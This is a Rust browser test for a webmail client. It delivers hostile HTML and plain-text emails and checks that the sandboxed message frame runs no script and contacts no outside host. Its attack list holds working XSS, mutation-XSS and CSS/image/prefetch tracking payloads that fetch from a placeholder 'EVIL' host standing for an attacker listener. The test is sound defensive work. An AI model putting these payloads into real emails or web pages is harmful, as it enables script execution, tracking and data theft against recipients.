//! Mail that means harm, opened in the real browser. A listener beside it counts
//! who calls: nobody may. The same mail without our walls calls it, which shows
//! that the listener hears and the mail bites.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use anyhow::{Result, ensure};

use super::post::{html, plain};
use super::world::{World, on_the_host, wait_for};

/// A server that nobody should ever call.
struct Listener {
    at: SocketAddr,
    calls: Arc<AtomicUsize>,
    paths: Arc<Mutex<Vec<String>>>,
}

impl Listener {
    /// Answers `/bare` with the given HTML, and all else with nothing.
    fn start(bare: impl FnOnce(SocketAddr) -> String) -> Result<Listener> {
        let socket = TcpListener::bind("127.0.0.1:0")?;
        let at = socket.local_addr()?;
        let (calls, paths) = (Arc::new(AtomicUsize::new(0)), Arc::new(Mutex::new(Vec::new())));
        let (counted, noted, page) = (Arc::clone(&calls), Arc::clone(&paths), bare(at));
        std::thread::spawn(move || {
            for stream in socket.incoming().flatten() {
                let path = answer(stream, &page).unwrap_or_default();
                counted.fetch_add(1, Ordering::SeqCst);
                noted.lock().unwrap().push(path);
            }
        });
        Ok(Listener { at, calls, paths })
    }

    fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

fn answer(mut stream: TcpStream, bare: &str) -> Result<String> {
    let mut bytes = [0; 2048];
    let n = stream.read(&mut bytes)?;
    let path = String::from_utf8_lossy(&bytes[..n]).split(' ').nth(1).unwrap_or_default().to_owned();
    let body = if path == "/bare" { bare } else { "" };
    write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )?;
    Ok(path)
}

/// One attack each: its name, and its markup with `EVIL` for the listener's address.
const ATTACKS: &[(&str, &str)] = &[
    (
        "script",
        "<script>window.hit = 1; fetch('http://EVIL/script')</script><script src='http://EVIL/src.js'></script>",
    ),
    (
        "handlers",
        "<img src='data:,x' onerror=\"window.hit = 1; fetch('http://EVIL/onerror')\"><body onload=\"fetch('http://EVIL/onload')\"><details open ontoggle=\"fetch('http://EVIL/toggle')\"><summary>x</summary></details>",
    ),
    (
        "svg",
        "<svg onload=\"window.hit = 1; fetch('http://EVIL/svg')\"><script>fetch('http://EVIL/svgscript')</script><image href='http://EVIL/svgimage'/><animate attributeName=href values='javascript:window.hit=1'/><filter><feImage href='http://EVIL/fe'/></filter><use href='http://EVIL/use#x'/></svg>",
    ),
    (
        "images",
        "<img src='http://EVIL/img'><img srcset='http://EVIL/srcset 1x'><picture><source srcset='http://EVIL/source'><img src='data:,x'></picture><table background='http://EVIL/background'><tr><td>x</td></tr></table><img src='http://EVIL/pixel' width=1 height=1><input type=image src='http://EVIL/input'>",
    ),
    (
        "css",
        "<style>@import url('http://EVIL/import'); @font-face { font-family: e; src: url('http://EVIL/font') } p { font-family: e; background: url(http://EVIL/rule) } :root { --u: url('http://EVIL/var') } b { background: var(--u) } li::before { content: url('http://EVIL/content') }</style><link rel=stylesheet href='http://EVIL/link'><p style=\"background-image: url('http://EVIL/style')\">x</p><b style='background:\\75rl(http://EVIL/escape)'>x</b><ul><li style=\"list-style-image: url(http://EVIL/list); cursor: url(http://EVIL/cursor), auto\">x</li></ul>",
    ),
    (
        "refresh",
        "<meta http-equiv=refresh content='0; url=http://EVIL/refresh'><base href='http://EVIL/'><img src='relative.png'>",
    ),
    (
        "frames",
        "<iframe src='http://EVIL/iframe'></iframe><iframe srcdoc=\"<script>fetch('http://EVIL/srcdoc')</script>\"></iframe><object data='http://EVIL/object'></object><embed src='http://EVIL/embed'><video src='http://EVIL/video' poster='http://EVIL/poster' autoplay></video><audio src='http://EVIL/audio' autoplay></audio>",
    ),
    (
        "forms",
        "<form id=f action='http://EVIL/form'><input name=a autofocus onfocus=\"document.forms[0].submit()\"><button>x</button></form>",
    ),
    (
        "links",
        "<link rel=prefetch href='http://EVIL/prefetch'><link rel=preload as=image href='http://EVIL/preload'><link rel=dns-prefetch href='http://EVIL/'><a id=js href='javascript:void(window.hit = 1)'>klik</a><a ping='http://EVIL/ping' href='#x'>ping</a>",
    ),
    (
        "broken",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=fetch(`http://EVIL/mxss`)&gt;'><noscript><p title=\"</noscript><img src='http://EVIL/noscript' onerror='window.hit=1'>\"><img src='http://EVIL/unclosed",
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn hostile_mail_reaches_nobody_and_runs_nothing() -> Result<()> {
    on_the_host("hostile", hostile).await
}

async fn hostile(world: &World) -> Result<()> {
    let everything: String = ATTACKS.iter().map(|(_, markup)| *markup).collect();
    let evil = Listener::start(|at| everything.replace("EVIL", &at.to_string()))?;
    let (host, jan) = (&world.host, world.host.fresh_user("jan")?);
    let from = "Boef <boef@bedrijf.test>";
    for (name, markup) in ATTACKS {
        let markup = markup.replace("EVIL", &evil.at.to_string());
        // The mark stands before the attack: some of them swallow all that follows.
        let body = format!("<p>mark-{name}</p>{markup}");
        host.deliver(&jan.address, &html(from, &jan.address, &format!("Aanval {name}"), &body))?;
    }
    let text = format!(
        "mark-plain <script>fetch('http://{}/plain')</script> <img src='http://{}/plainimg'>",
        evil.at, evil.at
    );
    host.deliver(&jan.address, &plain(from, &jan.address, "Aanval plain", &text))?;

    let _postduif = world.postduif().await?;
    world.sign_in("Jan Jansen", &jan).await?;
    let mails = ATTACKS.len() + 1;
    world
        .until(
            "all rows",
            &format!("return document.querySelector('.row[data-key]')?.ariaSetSize === '{mails}'"),
        )
        .await?;
    for place in 1..=mails {
        open(world, place).await?;
    }
    // Images on request: the listener is on this computer, so it is asked for nothing (invariant 21).
    world.fill("#search", "images").await?;
    world.until("the one hit", "return document.querySelectorAll('.row[data-key]').length === 1").await?;
    world.click(".row[data-key]").await?;
    world.click(".banner [data-do='images']").await?;
    world.click(".banner [data-do='images']").await?;
    world.gone(".banner [data-do='images']").await?;
    wait_for("the images that were asked for", async || {
        let asked = "return [...document.querySelectorAll('#postduif-message img')]\
            .filter((image) => image.src.includes('/remote/') && image.complete).length > 0";
        world.in_the_frame(async || Ok((world.js(asked).await? == true).then_some(()))).await
    })
    .await?;
    ensure!(evil.calls() == 0, "called: {:?}", evil.paths.lock().unwrap());
    ensure!(
        world.js("return window.hit === undefined && location.pathname === '/'").await? == true,
        "in the page"
    );

    // The control, last, because it calls.
    world.driver.goto(format!("http://{}/bare", evil.at)).await?;
    wait_for(
        "the listener to hear the same mail without walls",
        async || Ok((evil.calls() > 5).then_some(())),
    )
    .await
}

/// Opens one row's message, and looks at its frame when it is all there.
async fn open(world: &World, place: usize) -> Result<()> {
    match place {
        1 => world.click(".row[aria-posinset='1']").await?,
        _ => world.press("j").await?,
    }
    let row = format!(".row[aria-posinset='{place}'][aria-selected=true]");
    let name = world.text(&format!("{row} .l2")).await?;
    let name = name.trim_start_matches("Aanval ").split_whitespace().next().unwrap_or_default().to_owned();
    world.reads("#subject", &name).await?;
    wait_for(&format!("the frame of {name}"), async || {
        world.in_the_frame(async || framed(world, &name).await).await
    })
    .await
}

/// `None` while the frame is still another one's.
async fn framed(world: &World, name: &str) -> Result<Option<()>> {
    let text = world.js("return document.readyState === 'complete' ? document.body.innerText : ''").await?;
    if !text.as_str().is_some_and(|text| text.contains(&format!("mark-{name}"))) {
        return Ok(None);
    }
    let facts = world
        .js("return [window.hit === undefined, location.pathname.startsWith('/m/'), location.hostname, window.origin, \
             document.scripts.length, document.querySelectorAll('form, iframe, object, embed, svg, link, base, meta[http-equiv], video, audio').length]")
        .await?;
    // One script: our own, which tells the height and the keys.
    ensure!(facts == serde_json::json!([true, true, "localhost", "null", 1, 0]), "{name}: {facts}");
    if name == "css" {
        // What is harmless in its sheet holds, and holds within the message only.
        let facts = world
            .js("return [getComputedStyle(document.querySelector('#postduif-message p')).fontFamily, \
                 document.styleSheets.length]")
            .await?;
        ensure!(facts == serde_json::json!(["e", 2]), "{facts}");
    }
    if name == "links" {
        // What is left of a javascript: link does nothing.
        world.js("document.querySelectorAll('#postduif-message a').forEach((link) => link.click())").await?;
        ensure!(world.js("return window.hit === undefined").await? == true, "a link ran");
    }
    Ok(Some(()))
}
